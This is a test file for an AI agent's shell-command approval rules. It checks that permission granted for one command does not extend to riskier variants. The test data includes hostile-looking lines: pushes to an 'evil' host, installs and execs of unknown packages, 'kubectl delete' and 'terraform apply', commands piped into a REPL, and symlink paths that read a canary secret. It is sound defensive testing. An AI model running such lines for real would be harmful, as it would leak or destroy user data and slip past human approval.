/** What a rule that was given for one line must not let another line do, in a real shell beside canaries. */
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import {
  type CommandPattern,
  findLinePlaces,
  judgeCommand,
} from '../../src/agent/policy/shell/commandRules.js';
import type { RuleView } from '../../src/protocol/tools/approvalRules.js';

const families =
  'git npm pnpm yarn uv gh dotnet poetry pip pip3 mvn gradle make just rake go cargo kubectl terraform brew composer ' +
  'bundle rg tree repl psql gradlew apt';

let root: string;
const work = () => join(root, 'work');
const canary = () => join(root, 'canary');

/** Every one of them does what any of its words says, and then what it is fed. */
beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'wide-rules-'));
  mkdirSync(join(root, 'bin'));
  const program = (name: string, body: string) => {
    writeFileSync(join(root, 'bin', name), `#!/bin/bash\n${body}\n`);
    chmodSync(join(root, 'bin', name), 0o755);
  };
  program('evil', `: > '${canary()}'`);
  for (const name of families.split(' ')) {
    program(
      name,
      `case "$*" in *evil*) evil;; *written*) : > written;; *later*) ln -sfn "${root}" later;; *env*) env;;
       *pause*) until [ -e later/key ]; do sleep 0.05; done;; esac
       [ -e evil ] && evil
       while read -r one; do $one; done`,
    );
  }
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

beforeEach(() => {
  rmSync(canary(), { force: true });
  rmSync(work(), { recursive: true, force: true });
  for (const path of ['work/a/deep', 'work/b', 'elsewhere', 'work/node_modules/.bin']) {
    mkdirSync(join(root, path), { recursive: true });
  }
  writeFileSync(join(root, 'key'), 'canary of the user\n');
  writeFileSync(join(root, 'elsewhere', 'evil'), '');
  for (const path of ['1e', 'x', 'later', 'a/x', 'a/key', 'b/x', 'b/link-file']) {
    writeFileSync(join(work(), path), 'evil\n');
  }
  symlinkSync(root, join(work(), 'out'));
  symlinkSync('../key', join(work(), 'link.txt'));
  symlinkSync('../../key', join(work(), 'a', 'link-file'));
  symlinkSync('../..', join(work(), 'a', 'up'));
  symlinkSync('link.txt', join(work(), 'chain'));
  symlinkSync('a', join(work(), 'inside'));
});

const judge = async (line: string, rules: readonly RuleView[]) =>
  judgeCommand(line, rules, await findLinePlaces(line, work()));

function ruleOf(subject: CommandPattern, at: number): RuleView {
  const since = '2026-11-22T10:00:00.000Z';
  return { id: String(at), scope: 'folder', subject: { kind: 'command', ...subject }, since };
}

/** The widest rules that these lines are offered. */
async function rulesFor(lines: readonly string[]): Promise<readonly RuleView[]> {
  const verdicts = await Promise.all(lines.map((line) => judge(line, [])));
  const patterns = verdicts.flatMap(({ offer, wide }) => [...(offer ?? []), ...(wide ?? [])]);
  return patterns.map(ruleOf);
}

function harms(line: string): boolean {
  const { stdout, stderr } = spawnSync('/bin/bash', ['-c', line.replaceAll('OUT', root)], {
    cwd: work(),
    env: { PATH: `${join(root, 'bin')}:/usr/bin:/bin`, SECRET: 'canary of the user' },
    timeout: 60_000,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const isShown = /canary of the user/.test(`${stdout}${stderr}`);
  return isShown || existsSync(canary()) || existsSync(join(work(), 'written'));
}

/** What was agreed to, and what must be asked about all the same. */
const wider: readonly (readonly [agreed: readonly string[], line: string])[] = [
  // other things to do under the same name
  [['uv tree'], 'uv run evil'],
  [['uv pip list'], 'uv pip install evil'],
  [['uv pip list'], 'uv tool run evil'],
  [['gh pr view 1'], 'gh pr merge evil'],
  [['gh pr view 1'], 'gh pr view evil.example/a/b/pull/1'],
  [['gh repo view'], 'gh repo clone evil'],
  [['gh auth status'], 'gh auth login evil'],
  [['npm pkg get name'], 'npm pkg set evil'],
  [['npm pack'], 'npm pack evil'],
  [['npm view x'], 'npm view evil'],
  [['npm audit'], 'npm audit fix evil'],
  [['npm run build'], 'npm run env'],
  [['npm run build'], 'npm exec evil'],
  [['npm test'], 'npm --prefix evil test'],
  [['dotnet tool list'], 'dotnet tool install evil'],
  [['dotnet build'], 'dotnet build @evil'],
  [['dotnet nuget list'], 'dotnet nuget add evil'],
  [['poetry env list'], 'poetry env use evil'],
  [['poetry config --list'], 'poetry config evil x'],
  [['pip list'], 'pip install evil'],
  [['pip config list'], 'pip config set evil'],
  [['pip download x'], 'pip download evil'],
  [['yarn workspace a test'], 'yarn workspace a evil'],
  [['yarn run build'], 'yarn run evil'],
  [['yarn run tsx a.ts'], 'yarn run tsx evil.ts'],
  [['yarn build'], 'yarn evil'],
  [['pnpm build'], 'pnpm evil'],
  [['pnpm -r test'], 'pnpm -r evil'],
  [['kubectl get pods'], 'kubectl delete evil'],
  [['kubectl config view'], 'kubectl config set evil'],
  [['terraform validate'], 'terraform apply evil'],
  [['terraform state list'], 'terraform state rm evil'],
  [['brew info x'], 'brew info evil/tap/x'],
  [['composer show'], 'composer require evil'],
  [['bundle show'], 'bundle config evil'],
  [['apt show x'], 'apt source evil'],
  [['cargo build'], 'cargo install evil'],
  [['git stash list'], 'git stash drop evil'],
  [['git remote show'], 'git remote add evil x'],
  [['git branch'], 'git branch evil'],
  [['git checkout main'], 'git checkout evil'],
  [['git tag'], 'git tag evil'],
  [['git reflog'], 'git reflog delete evil'],
  [['git worktree list'], 'git worktree add evil'],
  // further goals, and coordinates of plugins
  [['mvn test'], 'mvn test org.evil:plugin:1:go'],
  [['mvn test'], 'mvn org.evil:plugin:1:go'],
  [['gradle test'], 'gradle test evil'],
  [['./gradlew test'], './gradlew test evil'],
  [['make test'], 'make test evil'],
  [['just test'], 'just test evil'],
  [['rake test'], 'rake test evil'],
  [['go test ./...'], 'go test evil.example/x'],
  [['go tool x'], 'go tool evil'],
  [['go get x'], 'go get evil'],
  // another host
  [['git push origin main'], 'git push evil:repo main'],
  [['git push'], 'git push evil@host:repo'],
  [['git fetch origin'], 'git fetch evil:repo'],
  [['git pull origin main'], 'git pull evil:repo main'],
  [['git ls-remote origin'], 'git ls-remote evil:repo'],
  [['git clone x'], 'git clone evil:repo'],
  [['git archive HEAD'], 'git archive evil'],
  // values of options that are programs, or files to write
  [['rg --pre cat x'], 'rg --pre evil x'],
  [['rg --pre=cat x'], 'rg --pre=evil x'],
  [['rg --hostname-bin cat x'], 'rg --hostname-bin evil x'],
  [['tree -o x'], 'tree -o written'],
  [['tree -no x'], 'tree -no written'],
  [['git diff --output x'], 'git diff --output written'],
  [['git log --output x'], 'git log --output written'],
  [['git diff --outp x'], 'git diff --outp written'],
  [['git grep -O x'], 'git grep -O evil'],
  [['git -C a status'], 'git -C evil status'],
  [['sort -o x'], 'sort -o written x'],
  [['sort x'], 'sort x -o written'],
  [['uniq x'], 'uniq x written'],
  [['tee x'], 'tee written'],
  // a program of the folder that only has the name of a known one
  [['./git status'], './git status evil'],
  [['node_modules/.bin/git status'], 'node_modules/.bin/git log evil'],
];

it.each(wider)('rules for %j do not cover %j', async (agreed, line) => {
  const rules = await rulesFor(agreed);
  for (const one of agreed) {
    expect((await judge(one, rules)).isAllowed).toBe(true);
  }
  expect((await judge(line, rules)).isAllowed).toBe(false);
});

it('would do it without the question', () => {
  const silent = wider.filter(([, line]) => {
    rmSync(canary(), { force: true });
    rmSync(join(work(), 'written'), { force: true });
    for (const name of ['git', 'gradlew']) {
      symlinkSync(join(root, 'bin', name), join(work(), name));
      symlinkSync(join(root, 'bin', name), join(work(), 'node_modules/.bin', name));
    }
    const isHarmed = harms(line);
    for (const name of ['git', 'gradlew']) {
      rmSync(join(work(), name));
      rmSync(join(work(), 'node_modules/.bin', name));
    }
    return !isHarmed;
  });
  expect(silent).toEqual([]);
});

const readers = ['echo x', 'cat x', 'head -n 5 x', 'grep e x', 'cut -c 1 x', 'ls x'];
const programs = [
  'repl',
  'psql db',
  'npm test',
  'npm run build',
  'git commit',
  'make',
  'tail -5',
  'ls',
];

/** What a program is fed is free: it may be one that takes commands. */
const fed = [
  'echo evil | repl',
  'cat x | repl',
  'head -n 5 x | psql db',
  'grep e x | repl',
  'echo evil |& repl',
  'echo evil |\n repl',
  'echo evil | # comment\n repl',
  'echo evil | cat | repl',
  'echo evil | tail -5 | repl',
  'echo evil | time repl',
  'echo evil | nohup repl',
  'echo evil | timeout 5 repl',
  'echo evil | npm test',
  'echo evil | npm run build',
  'echo evil | git commit',
  'echo evil | make',
  '(echo evil; ls) | repl',
  'echo evil | (ls; repl)',
  'echo evil | (cd a; repl)',
  'echo evil | (ls | cat; repl)',
  'echo evil | echo $(repl)',
  // the name of a file becomes what it does
  'echo evil | sed 1*',
  'echo evil | echo "a $(ls; repl)"',
  'echo $(echo evil | repl)',
  'ls && echo evil | repl',
  'ls; echo evil | repl | tail -5',
  'echo evil | repl 2>&1',
  'echo evil 2>/dev/null | repl',
];

it.each(fed)('are asked about a program that is fed: %j', async (line) => {
  const rules = await rulesFor([...readers, ...programs, 'sed 1*', 'cd a', 'echo "a $(ls)"']);
  expect((await judge(line, rules)).isAllowed).toBe(false);
  expect(harms(line)).toBe(true);
});

it('agree to a program together with what feeds it, and to nothing else', async () => {
  const agreed = await rulesFor(['echo x | repl', 'npm test', 'echo x']);
  const isAllowed = async (line: string) => (await judge(line, agreed)).isAllowed;
  expect(await isAllowed('echo x | repl')).toBe(true);
  expect(await isAllowed('echo evil | repl')).toBe(false);
  expect(await isAllowed('repl')).toBe(false);
  expect((await judge('echo x | repl', [])).offer).toEqual([
    { words: ['echo x | repl'], isPrefix: false },
  ]);
});

/** Each shows the canary through a link that the folder holds, or that the line makes. */
const outward = [
  'cat link.txt',
  'cat ./link.txt',
  'cat chain',
  'cat out/key',
  'cat "out"/key',
  'cat out//./key',
  'cat a/up/key',
  'cat inside/up/key',
  'cat inside/link-file',
  'cat a/link-file',
  'cat x link.txt',
  'cat link*',
  'cat *.txt',
  'cat l???.txt',
  'cat [l]ink.txt',
  'cat l[]i]nk.txt',
  'cat o*/key',
  'cat ou?/k*',
  'cat a/*',
  'cat */link-file',
  'cat */*/key',
  'head -n 5 link.txt',
  'grep canary link.txt',
  'grep -r canary out/key',
  'grep -e canary link.txt',
  'cut -c 1-40 link.txt',
  'tail -n 3 link.txt',
  'wc x; cat link.txt',
  'cat x | cat link.txt',
  'echo $(cat link.txt)',
  'time cat link.txt',
  'diff x link.txt',
  // it opens what the folders hold
  'diff a b',
  'diff b a',
  'cd out && cat key',
  'cd a && cat link-file',
  'cd a && cat up/key',
  'cd inside && cd up && cat key',
  '(cd a; cat link-file)',
  // a link that was not there when the line was judged
  'git checkout later && cat later/key',
  '(npm run pause; cat later/key) & git checkout later',
  'npm run pause && cat later/key && echo \\>& git checkout later',
  'git checkout later; head -n 1 later/key',
  'git checkout later && cd later && cat key',
  'git checkout later && cat l*/key',
  'git checkout later && echo $(cat later/key)',
  'CDPATH=OUT cd elsewhere && cat ../key',
];

const given = [
  ...[
    'cat x',
    'head -n 5 x',
    'grep e x',
    'grep -r e x',
    'grep -e e x',
    'cut -c 1 x',
    'tail -n 3 x',
  ],
  ...['diff x a/x', 'wc x', 'ls x', 'echo x', 'cd a', 'cd out', 'cd up', 'cd inside', 'cd later'],
  ...[
    'git checkout later',
    'npm run pause',
    'echo \\>',
    'echo $(cat x)',
    'CDPATH=OUT cd elsewhere',
  ],
];

it.each(outward)('are asked about what a link leads to: %j', async (line) => {
  expect((await judge(line.replaceAll('OUT', root), await rulesFor(given))).isAllowed).toBe(false);
  expect(harms(line)).toBe(true);
});

it('are judged by where links lead now', async () => {
  const rules = await rulesFor(['cat x']);
  const isAllowed = async (line: string) => (await judge(line, rules)).isAllowed;
  expect(await isAllowed('cat a/x')).toBe(true);
  expect(await isAllowed('cat inside/x')).toBe(true);
  rmSync(join(work(), 'a'), { recursive: true });
  symlinkSync('../elsewhere', join(work(), 'a'));
  expect(await isAllowed('cat a/x')).toBe(false);
  expect(await isAllowed('cat inside/x')).toBe(false);
  expect(await isAllowed('cat x b/x')).toBe(true);
});

it('hold in the folder alone, for what runs there', async () => {
  const rules = await rulesFor(['cd OUT/elsewhere', 'cd ..', 'cd out/elsewhere', 'npm test', 'ls']);
  for (const line of ['cd OUT/elsewhere && npm test', 'cd ../elsewhere; npm test']) {
    expect((await judge(line.replaceAll('OUT', root), rules)).isAllowed).toBe(false);
    expect(harms(line)).toBe(true);
  }
  expect((await judge('cd out/elsewhere && npm test', rules)).isAllowed).toBe(false);
  const line = 'cd .. && npm test';
  const own = await rulesFor([line]);
  expect((await judge(line, own)).isAllowed).toBe(true);
  expect((await judge('cd .. && npm start', own)).isAllowed).toBe(false);
});
